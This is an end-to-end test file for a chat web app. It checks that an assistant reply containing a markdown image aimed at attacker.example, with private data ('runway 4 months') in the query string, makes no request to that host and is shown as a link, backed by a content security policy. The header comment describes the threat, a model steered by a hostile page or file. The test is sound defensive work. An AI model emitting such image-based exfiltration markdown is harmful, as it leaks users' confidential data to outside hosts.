import { afterAll, beforeAll } from 'vitest';
import { startOpenAiStandIn, type OpenAiStandIn } from '../../apps/server/test/openai-stand-in';
import { removeDir, startServer, tempDir } from '../../scripts/lib/server.mjs';
import { ChatPage } from '../pages/chat-page';
import { DashboardPage } from '../pages/dashboard-page';
import { SignInPage } from '../pages/sign-in-page';
import { expectVisible } from '../support/expect';
import { describe, expect, test } from '../support/fixtures';
import { createVerifiedUser } from '../support/users';

/**
 * Issue 43: an answer that carries `![x](https://attacker.example/?q=…)` (a model a hostile page or
 * file steered) must not make the founder's browser fetch that address: the image is a link.
 */
const ATTACKER = 'https://attacker.example';

let model: OpenAiStandIn;
let server: Awaited<ReturnType<typeof startServer>>;
const dataDir = tempDir('uc-e2e-remote-images-');
beforeAll(async () => {
  model = await startOpenAiStandIn();
  const env = { LLM_PROVIDER: 'openai-compatible', LLM_BASE_URL: model.url, LLM_MODEL: 'some-model', AUTH_MAX_PER_IP: '1000', LOGIN_MAX_PER_IP: '1000', LOGIN_MAX_PER_EMAIL: '1000' };
  server = await startServer({ dataDir, env, echo: false });
});
afterAll(async () => {
  await server?.stop();
  await model?.close();
  removeDir(dataDir);
});

describe('no remote images in rendered chat (issue 43)', () => {
  test('an assistant message with an external image makes no request to that host', async ({ browser }) => {
    const founder = await createVerifiedUser(server.url);
    const context = await browser.newContext({ baseURL: server.url, viewport: { width: 1280, height: 900 } });
    context.setDefaultTimeout(15_000);
    // Every request to the attacker's host is recorded (and answered here, so none leaves the machine).
    const leaked: string[] = [];
    await context.route(`${ATTACKER}/**`, (route) => {
      leaked.push(route.request().url());
      return route.fulfill({ status: 200, contentType: 'image/png', body: Buffer.alloc(0) });
    });
    const page = await context.newPage();
    try {
      await (await new SignInPage(page).goto()).signIn(founder.email, founder.password);
      await new DashboardPage(page).expectShown(founder.name);
      const chat = new ChatPage(page);
      await chat.expectShown();
      model.queue.push({ kind: 'ok', chunks: ['Here is your runway chart:\n\n', `![runway](${ATTACKER}/pixel.png?q=runway%204%20months)`] });
      await chat.send('Show me our runway');
      await chat.expectAnswer(/Here is your runway chart/);
      // The page is left a moment to fetch anything it would.
      await page.waitForTimeout(500);
      expect(leaked).toEqual([]);
      expect(await page.locator(`img[src^="${ATTACKER}"]`).count()).toBe(0);
      const link = page.getByRole('link', { name: 'Image: runway' });
      await expectVisible(link);
      expect(await link.getAttribute('href')).toBe(`${ATTACKER}/pixel.png?q=runway%204%20months`);
      // The CSP no longer allows remote images either.
      const csp = (await page.request.get('/dashboard')).headers()['content-security-policy'];
      expect(csp).toContain("img-src 'self' data: blob:;");
    } finally {
      await context.close();
    }
  });
});
